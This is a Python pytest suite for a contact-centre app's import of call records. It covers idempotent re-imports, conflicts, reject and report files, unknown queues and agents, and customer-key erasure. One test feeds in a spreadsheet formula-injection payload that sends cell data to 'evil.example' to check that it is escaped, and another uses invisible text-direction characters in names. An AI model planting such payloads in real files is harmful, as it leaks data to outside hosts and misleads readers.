"""Import use cases across formats: idempotence, conflicts, rejects, unknown names, erasure."""

from __future__ import annotations

import csv
import json
import re
import tracemalloc
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from ccops.contacts import imports as contacts_imports
from ccops.contacts import privacy as contacts_privacy
from ccops.contacts import queries as contacts_queries
from ccops.contacts.importers.base import Tally, hash_customer_key
from ccops.contacts.importers.tabular import load_mapping, read_contacts_table
from ccops.contacts.models import Contact, Erasure, ImportBatch
from ccops.contacts.schemas import ImportReport
from ccops.errors import Conflict, Invalid, NotFound
from ccops.org import schemas as org_schemas
from ccops.org import service as org_service
from ccops.org.models import Person, Queue, Site
from ccops.settings import Settings
from tests.plugins.data import TEST_DATA

GENERIC = TEST_DATA / "contacts_generic.csv"
MAPPING = TEST_DATA / "contacts_generic.mapping.toml"
HEADER = "external_id,queue,arrival,answered_at,ended_at,outcome,wait_s,talk_s,agent,customer_key"


def _generic(session: Session, settings: Settings, path: Path = GENERIC, **kw: Any) -> ImportReport:
    return contacts_imports.import_contacts(
        session=session, settings=settings, path=path, format="csv", mapping=MAPPING, **kw
    )


def _rows(session: Session) -> list[tuple[object, ...]]:
    return [
        (c.id, c.external_id, c.arrival_at, c.answered_at, c.wait_s, c.talk_s, c.batch_id)
        for c in session.scalars(select(Contact).order_by(Contact.id))
    ]


def test_second_import_changes_no_record(main_org: Session, settings: Settings) -> None:
    first = _generic(main_org, settings)
    before = _rows(main_org)
    second = _generic(main_org, settings)
    assert (first.inserted, second.inserted, second.updated, second.unchanged) == (6, 0, 0, 6)
    assert _rows(main_org) == before
    assert {r[6] for r in before} == {first.batch_id}
    batch = main_org.get(ImportBatch, second.batch_id)
    assert batch is not None and (batch.inserted, batch.unchanged) == (0, 6)
    assert json.loads(batch.summary_json)["conflicts"] == 0


def test_changed_content_is_a_conflict_unless_update(
    main_org: Session, settings: Settings, counts: Callable[[], dict[str, int]], tmp_path: Path
) -> None:
    _generic(main_org, settings)
    before_rows, before = _rows(main_org), counts()
    changed = tmp_path / "contacts_generic.csv"
    changed.write_text(
        GENERIC.read_text(encoding="utf-8").replace("09:05:20,ANS", "09:06:20,ANS"),
        encoding="utf-8",
    )
    with pytest.raises(Conflict) as caught:
        _generic(main_org, settings, changed)
    (problem,) = caught.value.problems
    assert (problem.row, problem.field) == (2, "external_id")
    assert problem.message.startswith("C1 is already stored with different content")
    assert caught.value.status_code == 409
    assert (_rows(main_org), counts()) == (before_rows, before)

    report = _generic(main_org, settings, changed, update=True)
    assert (report.inserted, report.updated, report.unchanged, report.conflicts) == (0, 1, 5, 0)
    c1 = main_org.scalars(select(Contact).where(Contact.external_id == "C1")).one()
    assert (c1.talk_s, c1.ended_at, c1.batch_id) == (
        330.0,
        datetime(2024, 1, 15, 9, 6, 20, tzinfo=UTC),
        report.batch_id,
    )


def test_skip_invalid_writes_rejects_and_report_beside_each_other(
    main_org: Session, settings: Settings, tmp_path: Path
) -> None:
    path = tmp_path / "calls.csv"
    path.write_text(
        f"{HEADER}\n"
        "a1,Sales,2024-01-15T09:00:00+00:00,,,abandoned,5,0,,\n"
        "a2,Sales,2024-01-15T09:01:00+00:00,,,abandoned,-5,0,,\n"
        "a3,Sales,2024-01-15T09:02:00+00:00,2024-01-15T09:01:00+00:00,,answered,,10,bob,\n"
        "a4,Sales,2024-01-15T09:03:00+00:00,,,abandoned,7,0,,\n",
        encoding="utf-8",
    )
    report = contacts_imports.import_contacts(
        session=main_org, settings=settings, path=path, format="csv", skip_invalid=True
    )
    # a3's answer before its arrival: its outcome is known, so it is kept with its timing
    # untrusted (issue #15, point 5); a2's negative wait is an impossible value
    assert (report.inserted, report.rejected, report.problems_total) == (3, 1, 1)
    assert report.timing_untrusted == {"answer_before_arrival": 1}
    folder = settings.data_dir / "imports"
    assert report.rejects_path and report.report_path
    rejects_file, report_file = Path(report.rejects_path), Path(report.report_path)
    assert rejects_file.parent == report_file.parent == folder
    assert re.fullmatch(r"calls\.\d{8}T\d{6}Z-[0-9a-f]{6}\.rejects\.csv", rejects_file.name)
    assert report_file.name == rejects_file.name.replace(".rejects.csv", ".import-report.json")
    with rejects_file.open(encoding="utf-8", newline="") as handle:
        rejects = list(csv.DictReader(handle))
    assert [(r["line"], r["field"], r["message"]) for r in rejects] == [
        ("3", "wait_s", "negative duration -5"),
    ]
    assert rejects[0]["raw"].startswith("a2,Sales,2024-01-15T09:01:00+00:00")
    saved = json.loads(report_file.read_text(encoding="utf-8"))
    assert (saved["inserted"], saved["rejected"], saved["batch_id"]) == (3, 1, report.batch_id)
    assert saved["timing_untrusted"] == {"answer_before_arrival": 1}
    stored = main_org.scalars(select(Contact.external_id).order_by(Contact.external_id)).all()
    assert stored == ["a1", "a3", "a4"]


def test_rejects_file_escapes_formulas_and_a_second_import_keeps_the_first_files(
    main_org: Session, settings: Settings, tmp_path: Path
) -> None:
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    quoted = '"' + hostile.replace('"', '""') + '"'
    path = tmp_path / "calls.csv"
    path.write_text(
        f"{HEADER}\n"
        f"{quoted},Sales,2024-01-15T09:00:00+00:00,,,abandoned,-5,0,,\n"
        "a2,Sales,2024-01-15T09:01:00+00:00,,,abandoned,5,0,,\n",
        encoding="utf-8",
    )
    first = contacts_imports.import_contacts(
        session=main_org, settings=settings, path=path, format="csv", skip_invalid=True
    )
    second = contacts_imports.import_contacts(
        session=main_org, settings=settings, path=path, format="csv", skip_invalid=True
    )
    assert (first.inserted, first.rejected, second.unchanged, second.rejected) == (1, 1, 1, 1)
    assert first.rejects_path and second.rejects_path and first.report_path
    assert first.rejects_path != second.rejects_path
    assert first.report_path != second.report_path
    assert Path(first.rejects_path).exists() and Path(first.report_path).exists()
    with Path(first.rejects_path).open(encoding="utf-8", newline="") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["raw"].startswith("'" + hostile)
    assert (row["line"], row["field"], row["message"]) == ("2", "wait_s", "negative duration -5")


def test_unknown_queues_and_agents_are_listed_and_nothing_is_stored(
    main_org: Session, settings: Settings, counts: Callable[[], dict[str, int]], tmp_path: Path
) -> None:
    path = tmp_path / "calls.csv"
    path.write_text(
        f"{HEADER}\n"
        "a1,Billing,2024-01-15T09:00:00+00:00,,,abandoned,5,0,,\n"
        "a2,Sales,2024-01-15T09:01:00+00:00,2024-01-15T09:01:05+00:00,,answered,,10,carol,\n"
        "a3,Claims,2024-01-15T09:02:00+00:00,2024-01-15T09:02:05+00:00,,answered,,10,dave,\n"
        "a4,Billing,2024-01-15T09:03:00+00:00,,,abandoned,7,0,,\n",
        encoding="utf-8",
    )
    before = counts()
    with pytest.raises(NotFound) as caught:
        contacts_imports.import_contacts(
            session=main_org, settings=settings, path=path, format="csv"
        )
    assert caught.value.message == (
        "calls.csv: unknown queues Billing, Claims; agents carol, dave: create them first, or "
        "import with --create-missing"
    )
    assert [(p.field, p.row, p.message) for p in caught.value.problems] == [
        ("queue", 2, "unknown queue 'Billing'"),
        ("queue", 4, "unknown queue 'Claims'"),
        ("agent", 3, "unknown agent 'carol'"),
        ("agent", 4, "unknown agent 'dave'"),
    ]
    assert counts() == before

    report = contacts_imports.import_contacts(
        session=main_org, settings=settings, path=path, format="csv", create_missing=True
    )
    assert report.inserted == 4
    assert (report.created_queues, report.created_people) == (
        ["Billing", "Claims"],
        ["carol", "dave"],
    )
    billing = org_service.get_queue(session=main_org, name="Billing")
    assert (billing.site.name, billing.channel.name) == ("Main", "voice")
    assert org_service.get_person(session=main_org, login="dave").site_id == billing.site_id


def test_create_missing_refuses_names_with_direction_or_control_characters(
    main_org: Session, settings: Settings, tmp_path: Path
) -> None:
    path = tmp_path / "calls.csv"
    path.write_text(
        f"{HEADER}\n"
        "a1,Bill\u202eing,2024-01-15T09:00:00+00:00,,,abandoned,5,0,,\n"
        "a2,Sales,2024-01-15T09:01:00+00:00,2024-01-15T09:01:05+00:00,,answered,,10,ev\u2066e,\n",
        encoding="utf-8",
    )
    with pytest.raises(Invalid) as caught:
        contacts_imports.import_contacts(
            session=main_org, settings=settings, path=path, format="csv", create_missing=True
        )
    assert [(p.field, p.message) for p in caught.value.problems] == [
        (
            "queue",
            "queue name 'Bill\\u202eing' is not valid: "
            "name contains an invisible text-direction character (U+202E)",
        ),
        (
            "agent",
            "agent 'ev\\u2066e' is not a valid login: "
            "login contains an invisible text-direction character (U+2066)",
        ),
    ]
    assert main_org.scalar(select(func.count()).select_from(Contact)) == 0


def test_create_missing_without_any_site_creates_the_default_site_in_utc(
    session: Session, settings: Settings
) -> None:
    report = contacts_imports.import_contacts(
        session=session,
        settings=settings,
        path=GENERIC,
        format="csv",
        mapping=MAPPING,
        create_missing=True,
    )
    assert report.inserted == 6
    site = session.scalars(select(Site)).one()
    assert (site.name, site.timezone) == (settings.default_site, "UTC")


def test_refusal_keeps_the_callers_earlier_work(
    session: Session, settings: Settings, tmp_path: Path
) -> None:
    """The import runs in a SAVEPOINT: its refusal undoes only itself."""
    org_service.create_site(session=session, data=org_schemas.SiteIn(name="X", timezone="UTC"))
    path = tmp_path / "bad.csv"
    path.write_text(f"{HEADER}\na1,New,2024-01-15T09:00:00+00:00,,,abandoned,-5,0,,\n", "utf-8")
    with pytest.raises(Invalid):
        contacts_imports.import_contacts(
            session=session,
            settings=settings,
            path=path,
            format="csv",
            create_missing=True,
            site="X",
        )
    assert session.scalars(select(Site.name)).all() == ["X"]
    assert session.scalar(select(func.count()).select_from(Queue)) == 0
    assert session.scalar(select(func.count()).select_from(ImportBatch)) == 0


@pytest.mark.parametrize("fmt", ["xlsx", "", "TECHNION "])
def test_unknown_format_lists_the_known_ones(
    main_org: Session, settings: Settings, fmt: str
) -> None:
    if fmt == "TECHNION ":  # names are case- and space-insensitive
        with pytest.raises(Invalid, match="a Technion call log has"):
            contacts_imports.import_contacts(
                session=main_org, settings=settings, path=GENERIC, format=fmt
            )
        return
    with pytest.raises(Invalid) as caught:
        contacts_imports.import_contacts(
            session=main_org, settings=settings, path=GENERIC, format=fmt
        )
    assert caught.value.message == (
        f"unknown format {fmt!r} for contacts: use one of csv, parquet, technion, "
        "asterisk-queue-log, amazon-connect-ctr, genesys-cloud-conversations, "
        "twilio-taskrouter-events"
    )
    assert caught.value.problems[0].field == "format"


def test_unknown_site_and_missing_file_are_named(main_org: Session, settings: Settings) -> None:
    with pytest.raises(NotFound, match="site 'Mars' does not exist"):
        contacts_imports.import_contacts(
            session=main_org, settings=settings, path=GENERIC, format="csv", site="Mars"
        )
    with pytest.raises(Invalid, match=r"nothing.csv: no such file"):
        contacts_imports.import_contacts(
            session=main_org, settings=settings, path=GENERIC.with_name("nothing.csv"), format="csv"
        )
    with pytest.raises(Invalid, match="--mapping applies to csv and parquet"):
        contacts_imports.import_contacts(
            session=main_org, settings=settings, path=GENERIC, format="technion", mapping=MAPPING
        )


def test_erase_customer_keeps_statistics_and_never_the_key(
    main_org: Session, settings: Settings
) -> None:
    _generic(main_org, settings)
    before = {
        c.external_id: (c.arrival_at, c.wait_s, c.talk_s, c.outcome, c.customer_hash)
        for c in main_org.scalars(select(Contact))
    }
    secret = settings.resolved_secret_key()
    assert before["C1"][4] == before["C3"][4] == hash_customer_key("441234", secret)

    assert (
        contacts_privacy.erase_customer(session=main_org, customer_key="441234", secret_key=secret)
        == 2
    )
    after = {
        c.external_id: (c.arrival_at, c.wait_s, c.talk_s, c.outcome, c.customer_hash)
        for c in main_org.scalars(select(Contact))
    }
    for ext, values in before.items():
        expected = (*values[:4], None if ext in ("C1", "C3") else values[4])
        assert after[ext] == expected
    (erasure,) = main_org.scalars(select(Erasure))
    assert erasure.contacts_affected == 2
    assert "441234" not in repr(vars(erasure))

    again = _generic(main_org, settings)
    assert again.unchanged == 6
    assert main_org.scalars(select(Contact).where(Contact.customer_hash.is_not(None))).all() != []
    c1 = main_org.scalars(select(Contact).where(Contact.external_id == "C1")).one()
    assert c1.customer_hash is None
    with pytest.raises(Invalid, match="empty or 0"):
        contacts_privacy.erase_customer(session=main_org, customer_key=" 0 ", secret_key=secret)


def test_list_contacts_filters_and_bounds(main_org: Session, settings: Settings) -> None:
    _generic(main_org, settings)
    rows = contacts_queries.list_contacts(
        session=main_org,
        queue="Sales",
        start=datetime(2024, 1, 15, 9, 2, tzinfo=UTC),
        end=datetime(2024, 1, 15, 9, 20, tzinfo=UTC),
    )
    assert [(r.external_id, r.agent, r.customer_known) for r in rows] == [
        ("C2", None, True),
        ("C3", "bob", True),
        ("C4", "alice", False),
    ]
    with pytest.raises(Invalid, match="limit must be 1–1000"):
        contacts_queries.list_contacts(session=main_org, limit=5000)
    with pytest.raises(Invalid, match="from needs a UTC offset"):
        contacts_queries.list_contacts(session=main_org, start=datetime(2024, 1, 15))
    batches = contacts_queries.list_batches(session=main_org)
    assert [(b.kind, b.format, b.source, b.inserted) for b in batches] == [
        ("contacts", "csv", "acme-acd", 6)
    ]


def test_csv_reader_streams_in_constant_memory(tmp_path: Path) -> None:
    """Reading 20,000 rows holds one row at a time: the peak is far below the rows' size."""
    path = tmp_path / "big.csv"
    start = datetime(2024, 1, 1, tzinfo=UTC)
    with path.open("w", encoding="utf-8") as handle:
        handle.write(HEADER + "\n")
        for i in range(20_000):
            at = start + timedelta(seconds=30 * i)
            handle.write(f"x{i},Sales,{at.isoformat()},,,abandoned,{i % 60},0,,k{i}\n")
    tally = Tally(path.name)
    rows = read_contacts_table(
        path,
        "csv",
        label=path.name,
        mapping=load_mapping(None, kind="contacts"),
        zone_for=lambda _q: ZoneInfo("UTC"),
        tally=tally,
    )
    tracemalloc.start()
    try:
        seen = sum(1 for _ in rows)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert (seen, tally.rows_read) == (20_000, 20_000)
    assert peak < 1_000_000, peak  # 20,000 parsed rows would take well over 10 MB


def test_writer_flushes_in_chunks(
    main_org: Session, settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from ccops.contacts.importers import base

    sizes: list[int] = []
    original = base.ChunkedWriter.flush

    def spy(self: base.ChunkedWriter[Any]) -> None:
        sizes.append(len(self._pending))
        original(self)

    monkeypatch.setattr(base.ChunkedWriter, "flush", spy)
    monkeypatch.setattr(base, "CHUNK_ROWS", 100)
    path = tmp_path / "calls.csv"
    start = datetime(2024, 1, 1, tzinfo=UTC)
    lines = [
        f"x{i},Sales,{(start + timedelta(minutes=i)).isoformat()},,,abandoned,5,0,,"
        for i in range(250)
    ]
    path.write_text(HEADER + "\n" + "\n".join(lines) + "\n", encoding="utf-8")
    report = contacts_imports.import_contacts(
        session=main_org, settings=settings, path=path, format="csv"
    )
    assert report.inserted == 250
    assert [n for n in sizes if n] == [100, 100, 50]
    assert main_org.scalar(select(func.count()).select_from(Person)) == 2
